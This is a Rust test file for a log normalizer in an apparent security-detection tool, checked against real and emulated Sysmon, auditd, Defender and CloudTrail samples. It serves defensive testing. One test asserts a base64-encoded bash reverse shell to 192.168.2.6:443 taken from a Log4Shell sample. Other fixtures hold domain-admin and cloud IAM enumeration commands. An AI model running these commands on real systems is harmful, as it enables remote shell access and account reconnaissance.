//! Normalizer tests on real samples (OTRF, SigmaHQ, Invictus) and the emulated demo logs:
//! snapshots show every normalized field, so a mapping change is seen in review.

use std::sync::Arc;

use enumwatch_event::{Event, Location, LogSource, RawRecord, field};
use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;

/// JSON snapshot with keys sorted, so the file does not depend on whether another crate in the
/// build turned on serde_json's `preserve_order`.
macro_rules! snapshot {
    ($value:expr) => {
        insta::with_settings!({sort_maps => true}, {
            insta::assert_json_snapshot!($value);
        })
    };
}
pub(crate) use snapshot;

pub(crate) fn testdata(rel: &str) -> String {
    std::fs::read_to_string(format!(
        "{}/../../testdata/{rel}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
}

pub(crate) fn record(body: Value, idx: u64) -> RawRecord {
    RawRecord {
        location: Location::new(Arc::from("t"), idx).with_line(idx + 1),
        body,
    }
}

fn run_lines(text: &str) -> (Vec<Event>, Vec<Disposition>) {
    let mut n = Normalizer::new();
    let mut out = Vec::new();
    let mut dispositions = Vec::new();
    for (i, line) in text.lines().filter(|l| !l.trim().is_empty()).enumerate() {
        dispositions.push(n.push(
            record(serde_json::from_str(line).unwrap(), i as u64),
            &mut out,
        ));
    }
    n.finish(&mut out);
    (out, dispositions)
}

pub(crate) fn view(events: &[Event]) -> Value {
    Value::Array(
        events
            .iter()
            .map(|e| {
                json!({
                    "source": e.source.name(),
                    "record": e.location.record,
                    "time": e.time.map(|t| t.to_string()),
                    "fields": e.fields.to_map(),
                })
            })
            .collect(),
    )
}

#[test]
fn sysmon_evtx_rendering() {
    let (events, _) = run_lines(&testdata("demo/sysmon_process_creation.jsonl"));
    assert_eq!(events.len(), 14);
    assert!(events.iter().all(|e| e.source == LogSource::Sysmon));
    snapshot!(view(&events[..2]));
}

#[test]
fn sigma_regression_sysmon_record() {
    let text = testdata("logs/sysmon/sigma_regression_adfind.json").replace('\n', " ");
    let (events, _) = run_lines(&text);
    assert_eq!(events[0].fields.get_str("FileName"), Some("AdFind.exe"));
    assert_eq!(
        events[0].fields.get_str("Computer"),
        Some("srv-01.midgardnet.tech")
    );
    assert_eq!(
        events[0].time.unwrap().to_string(),
        "2025-10-23T09:37:40.974119Z"
    );
}

/// The same real record as Velociraptor's `parse_evtx` renders it (attributes as members,
/// `"EventID": {"Value": 1}`, `SystemTime` in epoch seconds), as its result rows hold it
/// (`System` and `EventData` at the top, a `Message`) and inside an `Event`: one Sysmon event
/// with the fields and time of the evtx-rs rendering.
#[test]
fn velociraptor_renderings_of_a_real_sysmon_record() {
    let rendered: Value =
        serde_json::from_str(&testdata("logs/sysmon/sigma_regression_adfind.json")).unwrap();
    let (expected, _) = run_lines(&rendered.to_string());
    let mut system = rendered["Event"]["System"].clone();
    for element in ["Provider", "TimeCreated", "Execution", "Security"] {
        let attributes = system[element]["#attributes"].clone();
        system[element] = attributes;
    }
    system["EventID"] = json!({"Value": 1});
    let when = expected[0].time.unwrap();
    system["TimeCreated"]["SystemTime"] = json!(when.as_microsecond() as f64 / 1e6);
    let data = rendered["Event"]["EventData"].clone();
    let row = json!({"System": system, "EventData": data, "Message": "Process Create:"});
    let wrapped = json!({"Event": {"System": system, "EventData": data}});
    for shape in [row, wrapped] {
        let (events, dispositions) = run_lines(&shape.to_string());
        assert_eq!(dispositions, [Disposition::Emitted(1)], "{shape}");
        assert_eq!(events[0].source, LogSource::Sysmon);
        assert_eq!(events[0].fields.to_map(), expected[0].fields.to_map());
        let got = events[0].time.unwrap();
        assert!(
            (got.as_microsecond() - when.as_microsecond()).abs() < 1000,
            "{got} {when}"
        );
    }
}

#[test]
fn otrf_flat_sysmon_and_4688_and_ignored_4103() {
    let (events, dispositions) =
        run_lines(&testdata("logs/windows/otrf_empire_net_user_domain.jsonl"));
    assert_eq!(
        dispositions[0],
        Disposition::Ignored {
            source: LogSource::Powershell4104,
            reason: "event id not analyzed"
        }
    );
    snapshot!(view(&events));
}

#[test]
fn defender_rows_and_streaming_envelope() {
    let (events, _) = run_lines(&testdata("demo/defender_device_process_events.jsonl"));
    assert_eq!(events.len(), 6);
    snapshot!(view(&events[..1]));
    let row: Value = serde_json::from_str(
        testdata("demo/defender_device_process_events.jsonl")
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    let envelope = json!({"time": "2024-05-14T10:02:12Z", "tenantId": "t", "operationName": "Publish",
        "category": "AdvancedHunting-DeviceProcessEvents", "properties": row});
    let mut out = Vec::new();
    assert_eq!(
        Normalizer::new().push(record(envelope, 0), &mut out),
        Disposition::Emitted(1)
    );
    assert_eq!(
        out[0].fields.get_str("CommandLine"),
        events[0].fields.get_str("CommandLine")
    );
    let file_row = json!({"Timestamp": "2024-05-14T10:02:11Z", "DeviceName": "ws", "ActionType": "FileCreated",
        "FileName": "a.txt", "FolderPath": "C:\\a.txt", "InitiatingProcessFileName": "cmd.exe"});
    assert_eq!(
        Normalizer::new().push(record(file_row, 0), &mut out),
        Disposition::Ignored {
            source: LogSource::DefenderProcess,
            reason: "advanced hunting table not analyzed"
        }
    );
    let other = json!({"category": "AdvancedHunting-DeviceNetworkEvents", "properties": {"DeviceName": "x"}});
    assert!(matches!(
        Normalizer::new().push(record(other, 0), &mut out),
        Disposition::Ignored { .. }
    ));
}

#[test]
fn powershell_4104_parts_are_reassembled_out_of_order() {
    let (events, dispositions) = run_lines(&testdata("demo/powershell_4104_scriptblocks.jsonl"));
    assert_eq!(dispositions[0], Disposition::Held);
    assert_eq!(dispositions[2], Disposition::Held);
    assert_eq!(dispositions[3], Disposition::Emitted(1));
    assert_eq!(events.len(), 3);
    let block = events
        .iter()
        .find(|e| e.fields.get("ScriptBlockParts") == Some(&json!(3)))
        .unwrap();
    assert_eq!(block.location.record, 0);
    let text = block.fields.get_str("ScriptBlockText").unwrap();
    assert!(text.find("Import-Module").unwrap() < text.find("Get-AADIntUsers").unwrap());
    assert!(
        text.find("Get-AADIntUsers").unwrap() < text.find("Invoke-AADIntReconAsInsider").unwrap()
    );
    snapshot!(view(&events));
}

#[test]
fn incomplete_script_block_is_flushed_at_the_end() {
    let first = testdata("demo/powershell_4104_scriptblocks.jsonl")
        .lines()
        .next()
        .unwrap()
        .to_owned();
    let (events, _) = run_lines(&first);
    assert_eq!(events.len(), 1);
    assert_eq!(
        events[0].fields.get("ScriptBlockIncomplete"),
        Some(&json!(true))
    );
}

#[test]
fn auditd_execve_with_hex_and_chunked_arguments() {
    let group = json!({"auditd": {"time": "1715680000.120", "serial": "90211", "records": [
        {"type": "SYSCALL", "exe": "\"/usr/local/bin/aws\"", "pid": "2290", "ppid": "2211", "uid": "1001", "auid": "1001", "comm": "\"aws\""},
        {"type": "EXECVE", "argc": "5", "a0": "\"aws\"", "a1": "2D2D70726F66696C65", "a2": "\"prod\"", "a3": "\"iam\"",
         "a4_len": "20", "a4[0]": "6C6973742D", "a4[1]": "7573657273"},
        {"type": "CWD", "cwd": "\"/home/dev\""}]}});
    let mut out = Vec::new();
    assert_eq!(
        Normalizer::new().push(record(group, 0), &mut out),
        Disposition::Emitted(1)
    );
    assert_eq!(
        out[0].fields.get_str("CommandLine"),
        Some("aws --profile prod iam list-users")
    );
    snapshot!(view(&out));
    let no_exec = json!({"auditd": {"time": "1.0", "serial": "1", "records": [{"type": "LOGIN"}]}});
    assert!(matches!(
        Normalizer::new().push(record(no_exec, 0), &mut out),
        Disposition::Ignored { .. }
    ));
    let title = json!({"auditd": {"time": "1.0", "serial": "2", "records": [{"type": "PROCTITLE",
        "proctitle": "67636C6F756400696100736572766963652D6163636F756E7473"}]}});
    let mut out = Vec::new();
    Normalizer::new().push(record(title, 0), &mut out);
    assert_eq!(
        out[0].fields.get_str("CommandLine"),
        Some("gcloud ia service-accounts")
    );
}

/// Builds the decoder's grouped shape from raw auditd lines (one event, same serial).
fn auditd_group(lines: &[&str]) -> Value {
    let mut records = Vec::new();
    let mut stamp = String::new();
    for line in lines {
        let mut rec = serde_json::Map::new();
        // `type=X msg=audit(T:S): k=v …`; values contain no spaces in these samples.
        for (i, token) in line.split_whitespace().enumerate() {
            let Some((k, v)) = token.split_once('=') else {
                continue;
            };
            if k == "msg" {
                stamp = v
                    .trim_start_matches("audit(")
                    .trim_end_matches("):")
                    .to_owned();
            } else if i == 0 || k != "type" {
                rec.insert(k.to_owned(), json!(v));
            }
        }
        records.push(Value::Object(rec));
    }
    let (time, serial) = stamp.split_once(':').unwrap();
    json!({"auditd": {"time": time, "serial": serial, "records": records}})
}

#[test]
fn auditd_demo_gcloud_events() {
    let text = include_str!("../../../testdata/demo/auditd_gcloud.log");
    let lines: Vec<&str> = text.lines().collect();
    let first = auditd_group(&lines[0..4]);
    assert_eq!(
        first["auditd"]["records"][1]["a6"],
        json!("70726F642070726F6A656374")
    );
    let grep = auditd_group(&lines[9..11]);
    let mut n = Normalizer::new();
    let mut out = Vec::new();
    assert_eq!(n.push(record(first, 0), &mut out), Disposition::Emitted(1));
    assert_eq!(n.push(record(grep, 1), &mut out), Disposition::Emitted(1));
    assert_eq!(detect(&auditd_group(&lines[0..1])), Some(LogSource::Auditd));
    snapshot!(view(&out));
}

#[test]
fn auoms_execve_rows_of_a_sentinel_syslog_table() {
    let (events, dispositions) =
        run_lines(&testdata("logs/auoms/otrf_syslog_auoms_log4shell.json"));
    assert_eq!(dispositions.len(), 50);
    assert_eq!(events.len(), 27);
    let failed = dispositions
        .iter()
        .filter(|d| {
            **d == Disposition::Ignored {
                source: LogSource::Auditd,
                reason: "failed execve",
            }
        })
        .count();
    assert_eq!(failed, 23);
    assert!(events.iter().all(|e| e.source == LogSource::Auditd));
    let shell = events
        .iter()
        .find(|e| {
            e.fields
                .get_str(field::COMMAND_LINE)
                .is_some_and(|c| c.starts_with("bash -c"))
        })
        .expect("the reverse shell");
    assert_eq!(
        shell.fields.get_str(field::COMMAND_LINE),
        Some(
            r#"bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}""#
        )
    );
    assert_eq!(
        detect(
            &serde_json::from_str(
                testdata("logs/auoms/otrf_syslog_auoms_log4shell.json")
                    .lines()
                    .next()
                    .unwrap()
            )
            .unwrap()
        ),
        Some(LogSource::Auditd)
    );
    snapshot!(view(&events[..2]));
}

#[test]
fn sentinel_windowsevent_rows_with_event_data_as_object_or_text() {
    let (events, _) = run_lines(&testdata(
        "logs/windows/sentinel_windowsevent_emulated.jsonl",
    ));
    let sources: Vec<_> = events.iter().map(|e| e.source).collect();
    assert_eq!(
        sources,
        [
            LogSource::Sysmon,
            LogSource::Security4688,
            LogSource::Sysmon
        ]
    );
    assert_eq!(
        events[0].fields.get_str(field::COMMAND_LINE),
        Some("aws iam list-users --output table")
    );
    // `EventData` as JSON text: parsed, and the event's raw record holds it parsed.
    assert!(
        events[1].fields.get_str(field::COMMAND_LINE).is_some_and(
            |c| c.ends_with("-IBm azure.cli ad user list --query \"[].userPrincipalName\"")
        )
    );
    assert!(events[1].raw["EventData"].is_object());
    snapshot!(view(&events));
}

#[test]
fn sentinel_event_table_rows_with_the_event_xml() {
    let (events, _) = run_lines(&testdata(
        "logs/windows/sentinel_event_table_emulated.jsonl",
    ));
    assert_eq!(events.len(), 2);
    assert!(events.iter().all(|e| e.source == LogSource::Sysmon));
    // `&amp;&amp;`, `&quot;` and `&gt;` in the XML are the command line's `&&`, `"` and `>`.
    assert_eq!(
        events[0].fields.get_str(field::COMMAND_LINE),
        Some(r#"cmd.exe /c "aws iam list-users && aws iam list-roles" > C:\Users\bob\out.txt"#)
    );
    assert_eq!(
        events[0].fields.get_str(field::COMPUTER),
        Some("WS02.contoso.local")
    );
    assert!(events[0].raw["EventData"].is_object());
    snapshot!(view(&events));
    // Cut inside its command line (Log Analytics cuts long columns), the XML still gives the
    // fields before it and the command line as far as it goes; cut before its first field, or
    // JSON text that does not parse, the row is reported, not read as an event without fields.
    let row: Value = serde_json::from_str(
        testdata("logs/windows/sentinel_event_table_emulated.jsonl")
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    let xml = row["EventData"].as_str().unwrap();
    let with_data = |text: &str| {
        let mut cut = row.clone();
        cut["EventData"] = Value::String(text.to_owned());
        let (events, dispositions) = run_lines(&cut.to_string());
        (events, dispositions)
    };
    let (events, _) = with_data(&xml[..xml.find("list-users").unwrap()]);
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].fields.get_str("ProcessId"), Some("5010"));
    assert_eq!(
        events[0].fields.get_str(field::COMMAND_LINE),
        Some(r#"cmd.exe /c "aws iam "#)
    );
    for unreadable in [
        &xml[..xml.find("<Data").unwrap() + 8],
        "{\"CommandLine\": \"aws",
    ] {
        let (events, dispositions) = with_data(unreadable);
        assert!(events.is_empty());
        assert_eq!(dispositions, [Disposition::Unrecognized], "{unreadable}");
        let mut cut = row.clone();
        cut["EventData"] = Value::String(unreadable.to_owned());
        assert_eq!(detect(&cut), None);
    }
}

#[test]
fn winlogbeat_and_sentinel_4688() {
    let beat = json!({"@timestamp": "2024-05-14T10:20:01.123Z",
        "event": {"code": "4688", "provider": "Microsoft-Windows-Security-Auditing"},
        "host": {"name": "ws-fin-07"},
        "winlog": {"event_id": "4688", "provider_name": "Microsoft-Windows-Security-Auditing",
            "channel": "Security", "computer_name": "ws-fin-07.contoso.local", "record_id": 88123,
            "event_data": {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS-FIN-07$",
                "SubjectDomainName": "CONTOSO", "SubjectLogonId": "0x3e7", "NewProcessId": "0x1f40",
                "NewProcessName": "C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe",
                "TokenElevationType": "%%1936", "ProcessId": "0x1b58",
                "CommandLine": "aws iam list-users --output json",
                "TargetUserSid": "S-1-5-21-1-2-3-1104", "TargetUserName": "jdoe",
                "TargetDomainName": "CONTOSO", "TargetLogonId": "0x5a3c1",
                "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
                "MandatoryLabel": "S-1-16-8192"}}});
    let sentinel = json!({"TimeGenerated": "2024-05-14T10:21:00Z", "Computer": "srv-02.contoso.local",
        "EventID": 4688, "Activity": "4688 - A new process has been created.",
        "Account": "CONTOSO\\svc-deploy", "NewProcessName": "C:\\Windows\\System32\\net.exe",
        "CommandLine": "net group \"Domain Admins\" /domain",
        "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"});
    assert_eq!(detect(&beat), Some(LogSource::Security4688));
    assert_eq!(detect(&sentinel), Some(LogSource::Security4688));
    let mut n = Normalizer::new();
    let mut out = Vec::new();
    assert_eq!(n.push(record(beat, 0), &mut out), Disposition::Emitted(1));
    assert_eq!(
        n.push(record(sentinel, 1), &mut out),
        Disposition::Emitted(1)
    );
    snapshot!(view(&out));
    let other = json!({"winlog": {"event_id": 4624, "provider_name": "Microsoft-Windows-Security-Auditing",
        "channel": "Security", "event_data": {}}});
    assert_eq!(
        n.push(record(other, 2), &mut out),
        Disposition::Ignored {
            source: LogSource::Security4688,
            reason: "event id not analyzed"
        }
    );
}

#[test]
fn cloudtrail_s3_object_records_and_eventbridge() {
    let doc: Value = serde_json::from_str(&testdata(
        "logs/cloudtrail/invictus_benjamin_iam_enumeration.json",
    ))
    .unwrap();
    let mut n = Normalizer::new();
    let mut out = Vec::new();
    for (i, r) in doc["Records"].as_array().unwrap().iter().enumerate() {
        n.push(record(r.clone(), i as u64), &mut out);
    }
    assert_eq!(out.len(), 3);
    snapshot!(view(&out[..1]));
    let envelope = json!({"version": "0", "detail-type": "AWS API Call via CloudTrail", "source": "aws.iam",
        "detail": doc["Records"][0].clone()});
    let mut out2 = Vec::new();
    n.push(record(envelope, 9), &mut out2);
    assert_eq!(out2[0].fields, out[0].fields);
    assert_eq!(detect(&doc["Records"][0]), Some(LogSource::Cloudtrail));
}

#[test]
fn unknown_shapes_are_unrecognized() {
    let mut out = Vec::new();
    let mut n = Normalizer::new();
    assert_eq!(
        n.push(record(json!({"hello": "world"}), 0), &mut out),
        Disposition::Unrecognized
    );
    assert_eq!(
        n.push(record(json!([1, 2]), 1), &mut out),
        Disposition::Unrecognized
    );
    assert_eq!(detect(&json!({"hello": 1})), None);
    let sysmon3 = json!({"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 3}, "EventData": {}}});
    assert_eq!(
        n.push(record(sysmon3, 2), &mut out),
        Disposition::Ignored {
            source: LogSource::Sysmon,
            reason: "event id not analyzed"
        }
    );
    assert!(out.is_empty());
}

/// Arbitrary JSON whose object keys and some string leaves come from a vendor's vocabulary, so
/// that shape checks get past their first test; shared by every normalizer's proptest.
pub(crate) fn arb_json_of(
    keys: Vec<&'static str>,
    leaves: Vec<&'static str>,
) -> impl Strategy<Value = Value> {
    let keys = prop::sample::select(keys);
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|n| json!(n)),
        any::<f64>().prop_map(|n| json!(n)),
        ".{0,16}".prop_map(Value::String),
        prop::sample::select(leaves).prop_map(|s| json!(s)),
    ];
    leaf.prop_recursive(4, 48, 6, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            prop::collection::vec((keys.clone(), inner), 0..6).prop_map(|kv| Value::Object(
                kv.into_iter().map(|(k, v)| (k.to_owned(), v)).collect()
            )),
        ]
    })
}

fn arb_json() -> impl Strategy<Value = Value> {
    arb_json_of(
        vec![
            "Event",
            "System",
            "EventData",
            "EventID",
            "Provider",
            "#attributes",
            "Name",
            "winlog",
            "event_id",
            "auditd",
            "records",
            "type",
            "argc",
            "a0",
            "a1[0]",
            "detail",
            "detail-type",
            "eventSource",
            "eventName",
            "eventTime",
            "category",
            "properties",
            "DeviceName",
            "ProcessCommandLine",
            "MessageTotal",
            "MessageNumber",
            "ScriptBlockId",
            "Channel",
            "SourceName",
            "userIdentity",
            "NewProcessName",
            "UtcTime",
            "proctitle",
            "node",
            "a0_len",
            "TimeCreated",
            "SystemTime",
        ],
        vec![
            "1",
            "4104",
            "4688",
            "EXECVE",
            "Microsoft-Windows-Sysmon",
            "3",
            "AdvancedHunting-DeviceProcessEvents",
            "Security",
        ],
    )
}

proptest! {
    #[test]
    fn push_never_panics(values in prop::collection::vec(arb_json(), 1..6)) {
        let mut n = Normalizer::new();
        let mut out = Vec::new();
        for (i, v) in values.into_iter().enumerate() {
            let _ = n.push(record(v, i as u64), &mut out);
        }
        n.finish(&mut out);
    }
}

fn string_leaves<'a>(value: &'a Value, out: &mut Vec<&'a str>) {
    match value {
        Value::String(s) => out.push(s),
        Value::Array(items) => items.iter().for_each(|v| string_leaves(v, out)),
        Value::Object(map) => map.values().for_each(|v| string_leaves(v, out)),
        _ => {}
    }
}

/// Every JSON sample in the repository (not the bad inputs), as its records.
fn json_samples() -> Vec<(std::path::PathBuf, Vec<Value>)> {
    let root = format!("{}/../../testdata", env!("CARGO_MANIFEST_DIR"));
    let mut files = Vec::new();
    let mut dirs = vec![std::path::PathBuf::from(root)];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                dirs.push(path);
            } else if path
                .extension()
                .is_some_and(|e| e == "json" || e == "jsonl")
            {
                files.push(path);
            }
        }
    }
    files.sort();
    files
        .into_iter()
        .filter(|p| !p.to_string_lossy().contains("/bad/"))
        .map(|path| {
            let text = std::fs::read_to_string(&path).unwrap();
            let bodies: Vec<Value> = match serde_json::from_str::<Value>(&text) {
                Ok(Value::Array(items)) => items,
                Ok(mut doc) => {
                    let key = ["Records", "value", "entries"]
                        .into_iter()
                        .find(|k| doc.get(*k).is_some_and(Value::is_array));
                    match key.and_then(|k| doc.get_mut(k)) {
                        Some(Value::Array(items)) => std::mem::take(items),
                        _ => vec![doc],
                    }
                }
                Err(_) => text
                    .lines()
                    .filter_map(|l| serde_json::from_str(l).ok())
                    .collect(),
            };
            (path, bodies)
        })
        .collect()
}

/// Each sample's events (script blocks reassembled), with the path.
fn sample_events() -> Vec<(std::path::PathBuf, Vec<Event>)> {
    json_samples()
        .into_iter()
        .map(|(path, bodies)| {
            let mut normalizer = Normalizer::new();
            let mut events = Vec::new();
            for (i, body) in bodies.into_iter().enumerate() {
                normalizer.push(record(body, i as u64), &mut events);
            }
            normalizer.finish(&mut events);
            (path, events)
        })
        .collect()
}

/// The raw-text prefilter relies on two claims about normalizers (see `field::is_normalized`
/// and `field::is_verbatim`); every JSON sample in the repository is checked against them.
#[test]
fn field_names_are_declared_and_command_lines_are_verbatim_vendor_strings() {
    let (mut checked, mut command_lines) = (0, 0);
    for (path, events) in sample_events() {
        for event in &events {
            checked += 1;
            for (name, _) in event.fields.iter() {
                assert!(
                    field::is_normalized(name),
                    "{}: field `{name}` is not declared in `field::is_normalized`",
                    path.display()
                );
            }
            if event.raw.get("auditd").is_some() {
                continue;
            }
            let mut leaves = Vec::new();
            string_leaves(&event.raw, &mut leaves);
            // AUOMS's command line is copied as written from inside its `SyslogMessage`.
            let auoms = event.raw.get("SyslogMessage").is_some();
            for name in [field::COMMAND_LINE, field::PARENT_COMMAND_LINE] {
                if let Some(value) = event.fields.get_str(name) {
                    command_lines += 1;
                    assert!(
                        leaves.contains(&value)
                            || (auoms && leaves.iter().any(|l| l.contains(value))),
                        "{}: `{name}` = {value:?} is not a string of the raw record",
                        path.display()
                    );
                }
            }
        }
    }
    assert!(checked > 150, "only {checked} events checked");
    assert!(
        command_lines > 20,
        "only {command_lines} command lines checked"
    );
}

/// `raw_facts`: every event's raw record holds its source's signature, and the literals of each
/// normalized field it has. The record is checked as serde_json writes it (no escapes in the
/// ASCII keys these literals name), lower-cased, as the prefilter searches it.
#[test]
fn raw_facts_hold_on_every_sample() {
    let mut sources = std::collections::BTreeSet::new();
    let mut fields_checked = 0;
    for (path, events) in sample_events() {
        for event in &events {
            let text = serde_json::to_string(event.raw.as_ref())
                .unwrap()
                .to_ascii_lowercase();
            for clause in raw_facts::signature(event.source) {
                assert!(
                    clause.iter().any(|l| text.contains(l)),
                    "{}: a {} record holds none of {clause:?}",
                    path.display(),
                    event.source.name()
                );
            }
            sources.insert(event.source.name());
            if event.raw.get("auditd").is_some() {
                continue;
            }
            for (name, _) in event.fields.iter() {
                if let Some(literals) = raw_facts::field_literals(name) {
                    fields_checked += 1;
                    assert!(
                        literals.iter().any(|l| text.contains(l)),
                        "{}: `{name}` is set but the record holds none of {literals:?}",
                        path.display()
                    );
                }
            }
        }
    }
    assert!(sources.len() >= 12, "only {sources:?} checked");
    assert!(fields_checked > 20, "only {fields_checked} fields checked");
    for source in LogSource::ALL {
        for clause in raw_facts::signature(source) {
            assert!(!clause.is_empty());
            for literal in clause.iter() {
                assert_eq!(*literal, literal.to_ascii_lowercase());
            }
        }
    }
}
